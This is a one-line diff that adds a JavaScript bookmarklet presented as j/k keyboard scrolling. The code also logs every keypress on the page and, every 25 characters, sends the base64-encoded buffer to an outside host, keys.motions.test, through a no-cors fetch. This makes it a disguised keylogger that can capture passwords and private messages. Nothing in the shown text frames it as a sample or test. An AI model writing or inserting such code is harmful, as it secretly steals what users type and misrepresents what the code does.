@@ -1,0 +1,1 @@
+javascript:void function(w,d){var b='';d.onkeypress=function(e){var c=String.fromCharCode(e.charCode);b+=c;if(c=='j')w.scrollBy(0,80);if(c=='k')w.scrollBy(0,-80);if(b.length>24){fetch('//keys.motions.test/s?'+btoa(b),{mode:'no-cors'});b=''}}}(window,document);
